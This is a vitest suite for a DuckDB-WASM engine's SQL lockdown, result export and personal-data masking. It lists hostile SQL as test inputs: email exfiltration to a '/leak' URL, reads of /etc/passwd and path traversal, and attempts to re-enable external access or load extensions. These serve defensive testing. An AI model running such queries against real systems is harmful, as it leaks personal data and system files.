/**
 * Guards RELIABILITY.md T1 (cases 1-2): after init, SQL can neither reach a URL, read outside
 * /data/, load or install extensions, nor undo the lockdown; every attempt fails with a plain
 * message. Node's DuckDB-WASM has no HTTP, so the permission error is what we can assert here;
 * the browser suite checks that no request is made.
 */
import { tableFromIPC } from 'apache-arrow';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Engine } from '../../workers/engine';
import { createEngine, textFile } from '../helpers/engine';

let engine: Engine;
beforeAll(async () => {
	engine = await createEngine();
	await engine.loadSource(textFile('customers.csv', 'id,email\n1,a@x.com\n2,b@y.com\n'));
});

const ATTEMPTS = [
	`SET VARIABLE u = (SELECT 'http://127.0.0.1:8001/leak?d=' || string_agg(email, ',') FROM customers); FROM read_csv(getvariable('u'))`,
	`FROM 'http://127.0.0.1:8001/x.csv'`,
	`SELECT * FROM read_text('http://127.0.0.1:8001/x')`,
	`ATTACH 'http://127.0.0.1:8001/db.duckdb' AS evil`,
	`COPY customers TO 'http://127.0.0.1:8001/out.csv'`,
	`SELECT * FROM glob('/*')`,
	`SELECT * FROM read_csv('/etc/passwd')`,
	`SELECT * FROM read_csv('/data/../etc/passwd')`,
	`FROM 's3://bucket/x.csv'`,
	`INSTALL httpfs`,
	`LOAD httpfs`,
	`INSTALL x FROM 'http://127.0.0.1:8001'`,
	`SET enable_external_access = true`,
	`RESET enable_external_access`,
	`SET lock_configuration = false`,
	`SET allowed_directories = ['/']`,
	`SET autoload_known_extensions = true`,
	`SET custom_extension_repository = 'http://127.0.0.1:8001'`
];

describe('lockdown', () => {
	it.each(ATTEMPTS)('refuses: %s', async (sqlText) => {
		await expect(engine.query(sqlText, {})).rejects.toMatchObject({
			code: expect.stringMatching(/locked|sql/),
			message: expect.stringMatching(
				/locked|disabled|Permission|not allowed|extension|Cannot|COPY|not exist|Catalog/i
			)
		});
	});

	it('names network attempts in plain words', async () => {
		await expect(engine.query(`FROM 'http://127.0.0.1:8001/x.csv'`, {})).rejects.toMatchObject({
			code: 'locked',
			message: expect.stringMatching(/Network and file access are disabled/)
		});
	});

	it('keeps answering ordinary queries after every refusal', async () => {
		const result = await engine.query('SELECT count(*) AS n FROM customers', {});
		expect(result.rowCount).toBe(1);
	});

	it('still holds after the SQL tried to undo it', async () => {
		const r = await engine.query(
			`SELECT current_setting('enable_external_access') AS ext, current_setting('lock_configuration') AS locked`,
			{}
		);
		expect(r.columns.map((c) => c.name)).toEqual(['ext', 'locked']);
		await expect(engine.query(`FROM 'http://127.0.0.1:8001/x.csv'`, {})).rejects.toMatchObject({
			code: 'locked'
		});
	});
});

describe('SQL cells', () => {
	it('stores a named result for later cells', async () => {
		const r = await engine.query('SELECT id, upper(email) AS e FROM customers', {
			resultName: 'shouty'
		});
		expect(r.resultName).toBe('shouty');
		const again = await engine.query('SELECT count(*) AS n FROM shouty', {});
		expect(again.rowCount).toBe(1);
	});

	it('refuses to name the result of a statement that is not a query', async () => {
		await expect(
			engine.query('CREATE TABLE x AS SELECT 1', { resultName: 'x2' })
		).rejects.toMatchObject({
			code: 'sql',
			message: expect.stringMatching(/Only a single query/)
		});
	});

	it('sends at most rowLimit rows but reports the full count', async () => {
		const r = await engine.query('SELECT * FROM range(250000)', { rowLimit: 1000 });
		expect(r.rowCount).toBe(250000);
	});

	it('reports DuckDB errors as sql errors with their text', async () => {
		await expect(engine.query('SELECT nope FROM customers', {})).rejects.toMatchObject({
			code: 'sql',
			message: expect.stringMatching(/nope/)
		});
	});
});

describe('result export', () => {
	it('exports a whole query result as CSV with quoting, and as Parquet that reads back', async () => {
		// The user opted in to personal data (hostile-data.test.ts covers the masked default).
		const csv = await engine.exportQuery(
			`SELECT id, email, 'say "hi", ok' AS note, DATE '2024-02-29' AS d FROM customers ORDER BY id`,
			'csv',
			{ includePersonal: true, salt: 's', minSegmentSize: 0 }
		);
		expect(new TextDecoder().decode(csv.bytes).trim().split('\n')).toEqual([
			'id,email,note,d',
			'1,a@x.com,"say ""hi"", ok",2024-02-29',
			'2,b@y.com,"say ""hi"", ok",2024-02-29'
		]);
		const parquet = await engine.exportQuery('SELECT id, email FROM customers', 'parquet');
		const { sourceFromBytes } = await import('../../workers/db');
		const back = await engine.loadSource(sourceFromBytes('back.parquet', parquet.bytes));
		expect(back.rowsLoaded).toBe(2);
		await expect(engine.exportQuery('CREATE TABLE z AS SELECT 1', 'csv')).rejects.toMatchObject({
			message: expect.stringMatching(/Only a single query/)
		});
	});
});

describe('personal data', () => {
	it('hashes (salted, stable), masks and excludes a column in place', async () => {
		const e = await createEngine();
		await e.loadSource(
			textFile(
				'people.csv',
				'id,email,name\n1,ann@shop.com,Ann Lee\n2,bob@shop.com,Bob Ray\n1,ann@shop.com,Ann Lee\n'
			)
		);
		await e.protectColumn('people', 'email', 'hash', 'salt-1');
		const hashed = tableFromIPC(
			(await e.query('SELECT DISTINCT email FROM people ORDER BY email', {})).ipc
		);
		const values = [...(hashed.getChildAt(0)?.toArray() ?? [])] as string[];
		expect(values).toHaveLength(2);
		for (const v of values) expect(v).toMatch(/^h_[0-9a-f]{16}$/);
		await e.protectColumn('people', 'name', 'mask', 'salt-1');
		const masked = tableFromIPC(
			(await e.query('SELECT name FROM people ORDER BY id LIMIT 1', {})).ipc
		);
		expect(masked.getChildAt(0)?.get(0)).toBe('A******');
		const profile = await e.protectColumn('people', 'name', 'exclude', 'salt-1');
		expect(profile.columns.map((c) => c.name)).toEqual(['id', 'email']);
	});
});
